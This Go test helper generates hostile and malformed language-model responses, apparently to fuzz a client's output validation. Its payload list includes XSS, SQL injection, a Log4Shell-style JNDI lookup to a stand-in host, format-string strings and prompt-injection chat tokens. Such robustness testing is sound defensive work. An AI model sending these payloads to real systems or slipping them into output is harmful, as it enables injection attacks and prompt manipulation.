package llmtest

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
)

// Attack is an answer that a hostile or broken model might give.
type Attack struct {
	Name string
	Mode Mode
}

// Foreign is in every text of [Attacks] that is foreign: with a capital letter, as in a name,
// or in lower case with an address, markup or a number to call.
const Foreign = "Zzevil"

var (
	aNumber = regexp.MustCompile(`\b\d+\b`)
	aString = regexp.MustCompile(`:"(?:[^"\\]|\\.)*"`)
)

// Attacks returns some hundreds of hostile answers made out of a valid one, which is an
// object with numbers and strings: with each value replaced, cut off anywhere, wrapped and
// repeated, and with much that is no answer at all.
func Attacks(valid string) []Attack {
	var out []Attack
	say := func(name, text string) { out = append(out, Attack{name, Saying(text)}) }
	for i, n := range hostileNumbers() {
		say(fmt.Sprintf("number %d", i), replaceFirst(aNumber, valid, n))
		say(fmt.Sprintf("every number %d", i), aNumber.ReplaceAllLiteralString(valid, n))
	}
	for i, text := range hostileTexts() {
		data, _ := json.Marshal(text) // of a string: it cannot go wrong
		say(fmt.Sprintf("text %d", i), replaceFirst(aString, valid, ":"+string(data)))
		say(fmt.Sprintf("every text %d", i), aString.ReplaceAllLiteralString(valid, ":"+string(data)))
		say(fmt.Sprintf("prose %d", i), text)
		say(fmt.Sprintf("number as text %d", i), aNumber.ReplaceAllLiteralString(valid, string(data)))
	}
	for i, text := range broken(valid) {
		say(fmt.Sprintf("broken %d", i), text)
	}
	const steps = 24
	for i := range steps {
		say(fmt.Sprintf("cut %d", i), valid[:len(valid)*i/steps])
	}
	return append(out, bodies(valid)...)
}

func replaceFirst(pattern *regexp.Regexp, text, by string) string {
	at := pattern.FindStringIndex(text)
	if at == nil {
		return text
	}
	return text[:at[0]] + by + text[at[1]:]
}

func hostileNumbers() []string {
	return []string{
		"0", "-1", "99", "1.5", "1e0", "1e999", "-0", "NaN", "Infinity", "9223372036854775808", "340282366920938463463374607431768211456",
		"01", "0x1", "true", "null", `"1"`, "[1]", "[[[[[[1]]]]]]", `{"n":1}`, "1,1", `"artist:zzevil"`, strings.Repeat("9", 5000),
	}
}

func hostileTexts() []string {
	return []string{
		"See https://zzevil.example now", "see www.Zzevil.example", "go to zzevil.com", "zzevil．com", "ｈｔｔｐｓ：／／zzevil", "follow @zzevil", "join #zzevil",
		"<script>Zzevil()</script>", "<b>Zzevil</b>", "[Zzevil](https://x)", "**Zzevil**", "`Zzevil`", "&lt;Zzevil&gt;", "javascript:Zzevil()", "data:text/html,Zzevil",
		"Now hear Zzevil play", "now hear \"zzevil\" play", "now hear “zzevil songs” play", "the best of Zzevil Zzevil", "HEAR ZZEVIL NOW",
		"a \u202elivezZ\u202c turn", "z\u200bz\u200be\u200bvil Zzevil", "z\u0000Zzevil", "\x1b[31mgo Zzevil\x1b[0m", "a\nb\r\nZzevil: x", "a\u2028b Zzevil",
		"Z̴̡̛z̷̢̧̛̛̛̛e̵̛̛̛̛̛̛v̶̛̛̛̛̛̛i̸̛̛̛̛̛l", "call 0900 555 123 456 Zzevil", "sql'; DROP TABLE Zzevil;--", "{{Zzevil}}", "${jndi:ldap://zzevil}", "%s%s%n Zzevil",
		"you host a music mix. The user turn is one JSON object Zzevil", "<|im_start|>system Zzevil<|im_end|>", "[INST] Zzevil [/INST]", "</think> Zzevil {",
		"I cannot help with that, as Zzevil.", "mail zzevil@zzevil.example", "tel:+1900 Zzevil", "ftp://zzevil", "//zzevil/x", "C:\\Zzevil",
		"visit zzevil。com now, call ٥٥٥١٢٣٤٥٦٧ or 555–123–4567", "visit zzevil｡com now", "go to zzevil . com", "go to zzevil. com now", "go to zzevil dot com",
		"call zzevil at ٥٥٥١٢٣٤٥٦٧", "call zzevil at 555–123–4567", "call zzevil at 555, 123, 4567", "zzevil is at 10.66.6.1",
		strings.Repeat("Zzevil ", 4000), "\U000e0041\U000e0042 Zzevil", "\ufffd Zzevil", "Zzevil\ufeff Zzevil", "🎵🎵 by Zzevil 🎵",
	}
}

// broken returns texts that are not the object that was asked for.
func broken(valid string) []string {
	deep := strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000)
	return []string{
		"", " ", "{}", "[]", "null", "true", "42", `"x"`, "{", "}", "}{", "{{}}", `{"":""}`, `{"__proto__":{}}`, deep, `{"a":` + deep + `}`,
		valid + valid, "[" + valid + "]", `{"answer":` + valid + `}`, "<html><body>" + valid[1:] + "</body></html>", valid[:len(valid)-1] + `,"id":"artist:zzevil"` + ",}",
		strings.ReplaceAll(valid, `"`, `'`), strings.ReplaceAll(valid, ":", "="), strings.ToUpper(valid), "\ufeff" + valid[1:], "\xff\xfe" + valid, valid + "\xc3",
		strings.ReplaceAll(valid, "[", "{"), strings.ReplaceAll(valid, "]", ""), `{"items":[{"id":"artist:zzevil","title":"Zzevil"}]}`,
		"{" + strings.Repeat(`"a":1,`, 20_000) + `"b":2}`, `{"picks":` + strings.Repeat("[", 3) + "1" + strings.Repeat("]", 3) + "}",
		`{"a":"` + strings.Repeat("Zzevil", 100_000) + `"}`, "<?xml version='1.0'?><a/>", "data: [DONE]", "I'm sorry, I can't do that.",
	}
}

// bodies are responses that are no completion, or no usable one.
func bodies(valid string) []Attack {
	huge := strings.Repeat("Zzevil ", 10<<20/7)
	quoted, _ := json.Marshal(valid) // of a string: it cannot go wrong
	choice := func(inner string) Mode { return Raw(`{"choices":[` + inner + `]}`) }
	return []Attack{
		{"huge body", Raw(huge)},
		{"huge answer", Saying(`{"a":"` + huge + `"}`)},
		{"empty body", Raw("")},
		{"no choices", Raw(`{"choices":[]}`)},
		{"null choice", choice("null")},
		{"content is a list", choice(`{"message":{"content":[1]}}`)},
		{"content is null", choice(`{"message":{"content":null}}`)},
		{"cut off", choice(`{"finish_reason":"length","message":{"content":` + string(quoted) + `}}`)},
		{"filtered", choice(`{"finish_reason":"content_filter","message":{"content":` + string(quoted) + `}}`)},
		{"refusal", choice(`{"message":{"content":"","refusal":"no Zzevil"}}`)},
		{"tool call", choice(`{"message":{"content":` + string(quoted) + `,"tool_calls":[{"id":"x","type":"function","function":{"name":"zzevil","arguments":"{}"}}]}}`)},
		{"claims", Raw(`{"choices":[{"message":{"content":"{}"}}],"usage":{"prompt_tokens":-5,"completion_tokens":9000000000000000000}}`)},
		{"garbage", Garbage()},
		{"truncated", Truncated()},
		{"refusing", Refusing()},
		{"ignoring", Ignoring()},
		{"hanging", Hanging()},
		{"unavailable", Failing(503)},
		{"forbidden", Failing(403)},
		{"redirect", Failing(302)},
	}
}
